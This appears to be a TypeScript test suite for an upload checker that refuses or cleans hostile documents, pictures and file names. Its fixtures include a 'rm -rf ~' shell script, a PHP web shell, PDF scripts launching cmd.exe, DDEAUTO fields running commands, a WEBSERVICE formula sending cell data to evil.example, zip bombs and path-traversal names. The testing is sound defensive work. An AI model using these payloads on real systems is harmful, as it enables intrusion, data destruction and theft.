import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { describe as suite, expect, it } from 'vitest';
import { fileRefusalSentence } from '@bti/text';
import { safeFileName, type FileNotice, type FileRefusal } from '@bti/domain';
import { pdfBomb, pdfFile, picture, pngSaying, wordFile, wordParts, zipOf } from '../../../test/files.js';
import { Refusal } from '../../http/errors.js';
import { checkFile } from './check-file.js';

type Make = () => Promise<Buffer> | Buffer;
const text =
  (words: string): Make =>
  () =>
    Buffer.from(words);
const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const page = '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>';
const word = (more: Record<string, string | Buffer>) => () => zipOf({ ...wordParts(), ...more });
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="http://x/${type}" TargetMode="External" Target="${target}"/></Relationships>`;
const after = (make: () => Promise<Buffer>, more: string | Buffer) => async () =>
  Buffer.concat([await make(), Buffer.from(more)]);
const before = (make: () => Promise<Buffer>, more: string) => async () =>
  Buffer.concat([Buffer.from(more), await make()]);
/** Bytes of a package, changed where they say `from`, in the list of parts or before a part. */
const changed = (make: () => Promise<Buffer>, from: string, to: string) => async () => {
  const bytes = await make();
  expect(from).toHaveLength(to.length);
  return Buffer.from(bytes.toString('latin1').replaceAll(from, to), 'latin1');
};
const pdfWith = (key: string, value: object) => () =>
  pdfFile(({ catalog, context }) => catalog.set(PDFName.of(key), context.obj(value as never)));
const openDocument = { mimetype: 'application/vnd.oasis.opendocument.text' };
const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };

const odt = (content: string) => () => zipOf({ ...openDocument, 'content.xml': `<x>${content}</x>` });
const field = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;
const fieldXml = (inside: string) => `<w:p>${inside}</w:p>`;
const fieldIn = (inside: string) => word({ 'word/comments.xml': fieldXml(inside) });

const refused: [string, FileRefusal, Make][] = [
  ['nothing', 'empty', text('')],
  ['a program', 'program', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 1)])],
  [
    'a program of Linux, called .pdf',
    'program',
    () => Buffer.from(`7f454c46020101${'00'.repeat(60)}`, 'hex'),
  ],
  ['a shell script', 'program', text('#!/bin/sh\nrm -rf ~')],
  ['a script in PHP', 'program', text('<?php system($_GET["x"]);')],
  ['a script in an SVG', 'svg', text(svg)],
  ['an SVG called .png', 'svg', text(svg.slice(21))],
  ['a page called .pdf', 'webPage', text(page)],
  ['plain words', 'plainText', text('Bare noe tekst om undring.')],
  ['plain words of Windows', 'plainText', () => Buffer.from('\ufeffUndring på skolen', 'utf16le')],
  [
    'a table in plain words, its letters of the old kind',
    'plainText',
    () => Buffer.from('Navn;Høyde\r\nMålgruppe;3\r\n', 'latin1'),
  ],
  ['a letter in RTF', 'oldOffice', text('{\\rtf1\\ansi Undring}')],
  ['a package of anything', 'mailOrArchive', () => zipOf({ 'a.txt': 'hei', 'b.txt': 'hei' })],
  ['a package in GZIP', 'mailOrArchive', () => gzipSync('hei')],
  [
    'a film',
    'film',
    () => Buffer.concat([Buffer.from('0000002066747970', 'hex'), Buffer.from('isommp42isommp42')]),
  ],
  [
    'a picture of a telephone',
    'phonePicture',
    () => Buffer.concat([Buffer.from('0000001866747970', 'hex'), Buffer.from('heic\0\0\0\0mif1heic')]),
  ],
  ['a bitmap', 'otherPicture', () => Buffer.concat([Buffer.from('BM'), Buffer.alloc(60, 1)])],
  [
    'a document of old Word',
    'oldOffice',
    () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]),
  ],
  [
    'a document behind a password',
    'lockedOffice',
    () =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(504),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ]),
  ],
  ['a picture of 10 000 pixels', 'tooManyPixels', () => picture('png', { width: 10_000, height: 1 })],
  ['a picture that claims a gigabyte', 'tooManyPixels', () => pngSaying(9000, 40_000)],
  ['a picture of more pixels than a camera has', 'tooManyPixels', () => pngSaying(9000, 9000)],
  ['a picture without pixels', 'brokenPicture', () => pngSaying(40, 40)],
  [
    'a JPEG that was cut off',
    'brokenPicture',
    async () => (await picture('jpeg', { width: 900, height: 900 })).subarray(0, 3000),
  ],
  ['a PDF that was cut off', 'brokenPdf', async () => (await pdfFile()).subarray(0, 300)],
  ['a PDF with nothing in it', 'brokenPdf', text('%PDF-1.7\nxref\ntrailer\n%%EOF')],
  ['a PDF with a script that starts by itself', 'pdfScript', pdfWith('OpenAction', script)],
  [
    'a PDF with a script by name',
    'pdfScript',
    pdfWith('Names', { JavaScript: { Names: [PDFHexString.fromText('a'), script] } }),
  ],
  [
    'a PDF with a script in a field, its name written in numbers',
    'pdfScript',
    async () =>
      Buffer.from(
        (await pdfWith('AA', { C: script })())
          .toString('latin1')
          .replace('/JavaScript', '/Java#53cript')
          .replace('/JS', '/J#53'),
        'latin1',
      ),
  ],
  [
    'a PDF that starts a program',
    'pdfLaunch',
    pdfWith('OpenAction', { S: 'Launch', F: PDFString.of('cmd.exe') }),
  ],
  ['a PDF with a file in it', 'pdfEmbedded', () => pdfFile((pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe'))],
  [
    'a PDF behind a password',
    'lockedPdf',
    () => pdfFile((pdf) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
  ],
  ['a PDF with a package after its end', 'hiddenContent', after(pdfFile, 'PK\u0003\u0004 og mer')],
  ['a PDF with a page before it', 'hiddenContent', before(pdfFile, '<html><script>alert(1)</script>')],
  [
    'a PDF with a page at its beginning',
    'hiddenContent',
    async () =>
      Buffer.from(
        (await pdfFile()).toString('latin1').replace('\n', '\n%<script>alert(1)</script>\n'),
        'latin1',
      ),
  ],
  ['a PDF that unpacks to far more than it is', 'tooHeavy', pdfBomb],
  ['a document with macros', 'macros', word({ 'word/vbaProject.bin': 'x' })],
  ['a docm called .docx', 'macros', () => zipOf(wordParts('a', macroType))],
  ['a document with controls', 'macros', word({ 'word/activeX/activeX1.xml': '<x/>' })],
  [
    'an OpenDocument with macros',
    'macros',
    () => zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'Basic/Standard/script.xml': '<x/>' }),
  ],
  ['a program in a document', 'embeddedFile', word({ 'word/media/a.exe': 'MZ' })],
  ['an object in a document', 'embeddedFile', word({ 'word/embeddings/oleObject1.bin': 'x' })],
  [
    'a package in a document in a document',
    'embeddedFile',
    async () =>
      zipOf({
        ...wordParts(),
        'word/embeddings/a.docx': await zipOf({ ...wordParts(), 'word/embeddings/b.docx': await wordFile() }),
      }),
  ],
  [
    'a package in a document',
    'embeddedFile',
    async () => zipOf({ ...wordParts(), 'word/a.zip': await zipOf({ a: 'a' }) }),
  ],
  [
    'a template from elsewhere',
    'remoteTemplate',
    word({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/a.dotm') }),
  ],
  [
    'a template on a server, its address written in numbers',
    'remoteTemplate',
    word({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', '&#92;&#92;evil&#92;a.dotm') }),
  ],
  [
    'a picture that is fetched from elsewhere',
    'remoteContent',
    word({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/a.png') }),
  ],
  [
    'a picture on a server of somebody else’s',
    'remoteContent',
    word({ 'word/_rels/header1.xml.rels': relation('image', 'file://evil/share/a.png') }),
  ],
  [
    'a film that is fetched from elsewhere',
    'remoteContent',
    word({ 'ppt/slides/_rels/slide1.xml.rels': relation('video', 'https://evil.example/embed') }),
  ],
  [
    'the numbers of another sheet',
    'remoteContent',
    word({
      'xl/externalLinks/_rels/externalLink1.xml.rels': relation(
        'externalLinkPath',
        '&#92;&#92;evil&#92;a.xlsx',
      ),
    }),
  ],
  [
    'a picture that an OpenDocument fetches',
    'remoteContent',
    () => zipOf({ ...openDocument, 'content.xml': '<x><d:image x:href="https://evil.example/a.png"/></x>' }),
  ],
  ['a field that starts a program', 'liveLink', fieldIn(code('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
  ['a field that asks a program, in one tag', 'liveLink', fieldIn('<w:fldSimple w:instr=" DDE Excel a b"/>')],
  [
    'such a field in pieces, in numbers, and with a remark between',
    'liveLink',
    fieldIn(
      field('begin') + code('D') + code('&#68;<!-- > -->') + code('<![CDATA[EAUTO]]> cmd') + field('end'),
    ),
  ],
  [
    'a field whose name another field counts out',
    'liveLink',
    fieldIn(
      field('begin') +
        field('begin') +
        code('QUOTE 68 68 69') +
        field('separate') +
        field('end') +
        code(' cmd'),
    ),
  ],
  ['such a field in the foot of a page', 'liveLink', word({ 'word/footer1.xml': fieldXml(code('dde a b')) })],
  [
    'such a field in a part that is called a picture, in wide letters',
    'liveLink',
    word({ 'word/media/a.png': Buffer.from(fieldXml(code('DDEAUTO a b')), 'utf16le') }),
  ],
  [
    'a sheet that asks a program',
    'liveLink',
    word({ 'xl/externalLinks/externalLink1.xml': '<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>' }),
  ],
  ['an OpenDocument that asks a program', 'liveLink', odt('<o:dde-source o:dde-application="soffice"/>')],
  [
    'a formula that asks a program',
    'liveLink',
    odt('<t:cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'),
  ],
  [
    'a field that fetches a picture',
    'remoteContent',
    fieldIn(field('begin') + code('INCLUDEPICTURE "https://evil.example/a.png" \\d') + field('end')),
  ],
  [
    'a field that fetches a text of a server',
    'remoteContent',
    fieldIn(code('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')),
  ],
  [
    'a page of the web as a part of a document',
    'embeddedFile',
    word({ 'word/_rels/document.xml.rels': '<Relationship Type="http://x/aFChunk" Target="a.dat"/>' }),
  ],
  [
    'a formula that fetches',
    'remoteContent',
    word({ 'xl/worksheets/sheet1.xml': '<c><f>_xlfn.WEBSERVICE("https://evil.example?a="&amp;A1)</f></c>' }),
  ],
  [
    'a sheet that is connected to a page of the web',
    'remoteContent',
    word({
      'xl/connections.xml': '<connection refreshOnLoad="1"><webPr url="https://evil.example"/></connection>',
    }),
  ],
  [
    'a picture that is fetched, its address behind a sign that ends no tag',
    'remoteContent',
    word({
      'word/_rels/document.xml.rels': relation('image', 'https://evil.example/a.png').replace('"r"', '"r>"'),
    }),
  ],
  [
    'a picture of a server, written without its protocol',
    'remoteContent',
    odt('<d:image x:href="//evil/a.png"/>'),
  ],
  [
    'words that mean something else than they say',
    'hiddenContent',
    word({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDEAUTO">]><a>&b;</a>' }),
  ],
  [
    'a part that is made to take long to read',
    'unpacksTooLarge',
    word({ 'word/a.xml': Buffer.concat([Buffer.from('<a '), Buffer.alloc(60_000_001, 'a')]) }),
  ],
  [
    'a PDF that opens a page of the web by itself',
    'pdfLaunch',
    pdfWith('OpenAction', { S: 'GoTo', Next: [{ S: 'URI', URI: PDFString.of('https://evil.example') }] }),
  ],
  [
    'a PDF that asks a server who reads it',
    'pdfLaunch',
    pdfWith('AA', { WC: { S: 'GoToR', F: PDFString.of('\\\\evil\\a'), D: [0, 'Fit'] } }),
  ],
  [
    'a zip bomb in a document',
    'unpacksTooLarge',
    () => zipOf({ ...wordParts(), 'word/media/a.xml': Buffer.alloc(60_000_000) }),
  ],
  [
    'a bomb of many parts',
    'unpacksTooLarge',
    () =>
      zipOf({ ...wordParts(), ...Object.fromEntries(Array.from({ length: 3001 }, (_, n) => [`a${n}`, ''])) }),
  ],
  [
    'a header that lies of a part’s size',
    'unpacksTooLarge',
    async () => sizeLie(await zipOf({ ...wordParts(), 'word/a.xml': 'x'.repeat(5000) })),
  ],
  [
    'a document with a path that climbs',
    'badPaths',
    changed(word({ 'word/aaaa/a.xml': 'x' }), 'word/aaaa/a.xml', '../../aaa/a.xml'),
  ],
  [
    'a document with a path from the root',
    'badPaths',
    changed(word({ 'word/aaaa/a.xml': 'x' }), 'word/aaaa/a.xml', '/etc/aaaa/a.xml'),
  ],
  [
    'a document with a path of Windows',
    'badPaths',
    changed(word({ 'word/aaaa/a.xml': 'x' }), 'word/aaaa/a.xml', 'C:\\w\\aaaa\\a.xml'),
  ],
  [
    'a document with a link to elsewhere on the disk',
    'badPaths',
    () =>
      zipOf(wordParts(), (zip) =>
        zip.addBuffer(Buffer.from('/etc/passwd'), 'word/a.xml', { mode: 0o120777 }),
      ),
  ],
  [
    'a document whose part is named twice',
    'hiddenContent',
    changed(word({ 'word/documenx.xml': 'x' }), 'word/documenx.xml', 'word/document.xml'),
  ],
  ['a document with something after its end', 'brokenOffice', after(wordFile, '<script>alert(1)</script>')],
  [
    'a document with something before its list',
    'brokenOffice',
    async () => Buffer.concat([Buffer.from('PK\u0003\u0004skjult'), await wordFile()]),
  ],
  ['a document that was cut off', 'brokenOffice', async () => (await wordFile()).subarray(0, 400)],
  [
    'a template of Word',
    'unknownType',
    () =>
      zipOf(
        wordParts('a', 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
      ),
  ],
];

/** The list of parts says that the last one is small. */
function sizeLie(bytes: Buffer): Buffer {
  const at = bytes.lastIndexOf('PK\u0001\u0002', undefined, 'latin1');
  bytes.writeUInt32LE(10, at + 24);
  return bytes;
}

suite('a bad file is refused', () => {
  it.each(refused)(
    '%s: %s',
    async (_, reason, make) => {
      const refusal = await checkFile(await make()).then(
        () => undefined,
        (error: unknown) => error,
      );
      expect(refusal).toBeInstanceOf(Refusal);
      expect((refusal as Refusal).extras).toEqual({ reason });
      const [nb, nn] = (['nb', 'nn'] as const).map((language) => fileRefusalSentence(reason, language));
      for (const sentence of [nb!, nn!]) expect(sentence).toMatch(/^[A-ZÆØÅ].{20,}\.$/);
    },
    30_000,
  );
});

const marked = (bytes: Buffer) => bytes.includes('evil') || bytes.includes('Exif') || bytes.includes('GPS');
const defused: [string, FileNotice[], Make][] = [
  [
    'a photograph that says where it was taken',
    ['cleaned'],
    async () =>
      sharp(await picture('jpeg'))
        .withExif({ IFD0: { Copyright: 'evil' }, IFD3: { GPSLatitude: '59/1 0/1 0/1', GPSLatitudeRef: 'N' } })
        .jpeg()
        .toBuffer(),
  ],
  ['a JPEG with a script in it', [], after(() => picture('jpeg'), '<?php evil(); ?>')],
  [
    'a GIF that is a package as well',
    ['otherFormat'],
    async () => Buffer.concat([await picture('gif'), await zipOf({ 'evil.txt': 'evil' })]),
  ],
  [
    'a PNG with words in it',
    ['cleaned'],
    async () =>
      sharp(await picture('png'))
        .png()
        .withExif({ IFD0: { ImageDescription: 'evil' } })
        .toBuffer(),
  ],
  ['a picture that moves, a hundred times', ['stillOnly', 'otherFormat'], async () => movingGif(100)],
  [
    'a picture in four colours of print',
    [],
    async () =>
      sharp(await picture('jpeg'))
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
  ],
  [
    'a picture with a profile of a screen',
    [],
    async () =>
      sharp(await picture('png'))
        .withIccProfile('p3')
        .png()
        .toBuffer(),
  ],
  ['a picture larger than any screen', ['scaledDown'], () => picture('png', { width: 5000, height: 100 })],
  ['a picture in AVIF', ['otherFormat'], () => picture('avif')],
];

async function movingGif(pages: number): Promise<Buffer> {
  const frames = await Promise.all(
    Array.from({ length: pages }, (_, n) =>
      sharp({ create: { width: 20, height: 20, channels: 3, background: { r: n, g: n, b: 0 } } })
        .png()
        .toBuffer(),
    ),
  );
  return sharp(frames, { join: { animated: true } })
    .gif({ loop: 0 })
    .toBuffer();
}

suite('a bad file is defused', () => {
  it.each(defused)('%s', async (_, notices, make) => {
    const { bytes, notices: said, type, width, height } = await checkFile(await make());
    expect(said).toEqual(expect.arrayContaining(notices));
    expect(marked(bytes)).toBe(false);
    const head = await sharp(bytes).metadata();
    expect([head.exif, head.icc, head.xmp, head.pages ?? 1]).toEqual([undefined, undefined, undefined, 1]);
    expect([head.space, type, head.width, head.height]).toEqual([
      'srgb',
      `image/${head.format}`,
      width,
      height,
    ]);
    expect(Math.max(width!, height!)).toBeLessThanOrEqual(2400);
    // What was drawn here is kept as it is when it comes back in an export.
    expect((await checkFile(bytes, { keep: true })).bytes).toEqual(bytes);
  });

  it('as a PDF that cannot be read aloud, with a warning', async () => {
    expect(await checkFile(await pdfFile())).toMatchObject({ tagged: false, notices: ['untaggedPdf'] });
    expect(await checkFile(await pdfFile(undefined, { tagged: true }))).toMatchObject({
      tagged: true,
      notices: [],
    });
  });
});

suite('a good file goes through', () => {
  it('as it is: a document with a chart, a template on the writer’s own machine, parts of unknown length', async () => {
    const sheet = {
      '[Content_Types].xml': '<x ContentType="a.spreadsheetml.sheet.main+xml"/>',
      'xl/workbook.xml': '<x/>',
    };
    const bytes = await zipOf({
      ...wordParts(),
      'word/embeddings/chart.xlsx': await zipOf(sheet),
      'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///C:\\Maler\\Normal.dotm'),
      'word/_rels/document.xml.rels': relation('hyperlink', 'https://lovdata.no'),
      'word/_rels/footer1.xml.rels': relation('image', 'file:///C:\\Bilder\\logo.png'),
    });
    expect((await checkFile(bytes)).bytes).toBe(bytes);
    const fields = [
      'IF ',
      'PAGE',
      'HYPERLINK "https://lovdata.no"',
      'INCLUDEPICTURE "C:\\\\a.png" \\d',
      'DDEX',
    ];
    const honest = fields
      .map((words) => field('begin') + code(words) + field('separate') + field('end'))
      .join('');
    const counted =
      field('begin') + code('IF ') + field('begin') + code('PAGE') + field('end') + field('end');
    const said = '<w:t>DDEAUTO, IMAGE(a) og https://lovdata.no</w:t>';
    await checkFile(await fieldIn(honest + counted + said)());
    const formulas = '<f>SUM(A1)</f><f>HYPERLINK("https://lovdata.no","WEBSERVICE(")</f>';
    const model = '<connection><dbPr connection="Data Model Connection" command="M"/></connection>';
    await checkFile(
      await zipOf({ ...sheet, 'xl/worksheets/sheet1.xml': formulas, 'xl/connections.xml': model }),
    );
    expect((await checkFile(await zipOf(sheet))).type).toContain('spreadsheetml.sheet');
    const links =
      '<text:a xlink:href="https://lovdata.no">§</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>';
    const odt = { ...openDocument, 'content.xml': `<x>${links}</x>` };
    expect((await checkFile(await zipOf(odt))).type).toBe(odt.mimetype);
    expect((await checkFile(await zipOf({}, (zip) => streamed(zip)))).type).toContain('wordprocessingml');
  });
});

function streamed(zip: Parameters<NonNullable<Parameters<typeof zipOf>[1]>>[0]): void {
  for (const [name, content] of Object.entries(wordParts()))
    zip.addReadStreamLazy(name, (done) => done(null, Readable.from([Buffer.from(content)])));
}
suite('a bad name', () => {
  it.each([
    ['../../etc/passwd', 'passwd.pdf'],
    ['C:\\Users\\ola\\skjema.pdf', 'skjema.pdf'],
    ['mappe/skjema', 'skjema.pdf'],
    ['skjema\0.exe', 'skjema.pdf'],
    ['skjema\u202efdp.exe', 'skjemafdp.pdf'],
    ['CON.pdf', 'fil-CON.pdf'],
    ['lpt1', 'fil-lpt1.pdf'],
    ['.htaccess', 'htaccess.pdf'],
    ['skjema.pdf.exe', 'skjema.pdf'],
    ['skjema.docx', 'skjema.pdf'],
    ['Rutine 3.1', 'Rutine 3.1.pdf'],
    ['  . ', 'fil.pdf'],
    ['', 'fil.pdf'],
    ['a"; filename=b.exe', 'a; filename=b.pdf'],
    ['linje\r\nSet-Cookie: x', 'linjeSet-Cookie x.pdf'],
    [`${'å'.repeat(300)}.pdf`, `${'å'.repeat(100)}.pdf`],
    [`${'😀'.repeat(300)}.pdf`, `${'😀'.repeat(100)}.pdf`],
    ['Møte «én».pdf', 'Møte «én».pdf'],
  ])('%j becomes %j', (given, name) => {
    expect(safeFileName(given, 'application/pdf')).toBe(name);
  });
});
